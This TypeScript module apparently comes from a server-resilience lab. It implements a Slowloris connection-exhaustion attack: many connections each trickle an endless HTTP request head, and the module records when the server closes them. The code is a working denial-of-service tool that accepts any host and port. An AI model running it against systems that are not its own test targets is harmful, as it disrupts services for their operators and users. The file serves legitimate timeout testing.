// Slowloris: connections that send a request head a few bytes at a time and never finish it.
// Each connection records whether and when the server closed it.
import { RawConn, type CloseInfo } from '../http/conn.js';

export interface SlowHeaderOptions {
  host: string;
  port: number;
  connections: number;
  /** bytes per write, and the pause between writes */
  chunk?: number;
  cadenceMs?: number;
  signal: AbortSignal;
  connectTimeoutMs?: number;
}

export interface SlowHeaderConn {
  /** undefined when the connect itself failed */
  conn?: RawConn;
  connectError?: string;
  /** set when the server closed it (FIN or RST) */
  closedByServer?: CloseInfo;
}

/** An endless request head: a request line, then one made-up header after another. */
export function endlessHead(host: string): Buffer {
  const lines = [`GET /?slow=1 HTTP/1.1`, `Host: ${host}`, 'User-Agent: go-ha-labs-slowloris'];
  for (let i = 0; i < 2000; i++) lines.push(`X-Slow-${i}: ${'a'.repeat(8)}`);
  return Buffer.from(lines.join('\r\n') + '\r\n', 'latin1'); // never the blank line that ends a head
}

export class SlowHeaderAttack {
  readonly conns: SlowHeaderConn[] = [];
  private writers: Promise<unknown>[] = [];

  constructor(private readonly opts: SlowHeaderOptions) {}

  /** Opens the connections (all at once) and starts dribbling bytes on each. */
  async start(): Promise<void> {
    const { host, port, connections, signal } = this.opts;
    const head = endlessHead(`${host}:${port}`);
    await Promise.all(
      Array.from({ length: connections }, async () => {
        const entry: SlowHeaderConn = {};
        this.conns.push(entry);
        try {
          entry.conn = await RawConn.open(host, port, { timeoutMs: this.opts.connectTimeoutMs ?? 3000 });
        } catch (err) {
          entry.connectError = (err as { code?: string }).code ?? String(err);
          return;
        }
        const conn = entry.conn;
        conn.closed.then((c) => {
          if (c.by === 'peer-fin' || c.by === 'peer-rst') entry.closedByServer = c;
        });
        this.writers.push(conn.writeSlowly(head, { chunk: this.opts.chunk ?? 1, cadenceMs: this.opts.cadenceMs ?? 500, signal }));
      }),
    );
  }

  connected(): number {
    return this.conns.filter((c) => c.conn).length;
  }

  /** connections the server has closed so far */
  closedByServer(): number {
    return this.conns.filter((c) => c.closedByServer).length;
  }

  stillOpen(): number {
    return this.conns.filter((c) => c.conn && c.conn.isOpen).length;
  }

  /** the latest time (ms after its own connect) at which the server closed one of them */
  slowestCloseMs(): number | undefined {
    const t = this.conns.flatMap((c) => (c.closedByServer ? [c.closedByServer.atMs] : []));
    return t.length ? Math.max(...t) : undefined;
  }

  stop(): void {
    for (const c of this.conns) c.conn?.close();
  }
}
